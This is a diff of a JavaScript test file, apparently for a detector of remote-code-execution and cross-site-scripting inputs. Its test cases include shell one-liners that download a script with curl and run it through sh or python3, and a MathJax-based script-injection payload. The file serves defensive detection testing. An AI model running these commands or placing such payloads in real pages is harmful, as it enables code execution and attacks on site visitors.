@@ -3968,3 +3968,10 @@ t.test("forty-third round's third review: eval, alert and confirm assigned read 
   for (const c of ['sh -c "$(curl -s http://127.0.0.1:18778/x)"', 'curl -s http://127.0.0.1:18778/x -o /tmp/s; sh /tmp/s', 'curl -s http://127.0.0.1:18778/p|python3', 'python3 -c "import os;os.system(\'id\')"']) t.ok(md(c).includes('rce'), c)
   t.same(md('$ tree -L 1 ./pkg/printers/ | grep -v test'), [], 'a listing for the editors')
 })
+
+t.test("forty-third round, read-through: only the parse's own \\u escapes hold the application's reading back", async (t) => {
+  // a backslash kept, then `u0027`: the string's own decoding makes the quote, and judges it as made
+  const v = `{"x":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({a:['\\\\u0027',alert(1),'\\\\u0027']})</script>"}`
+  t.ok(q(v).includes('xss'), 'an escaped backslash before u0027 (query)')
+  t.ok(json({ page: v }).includes('xss'), 'an escaped backslash before u0027 (JSON)')
+})
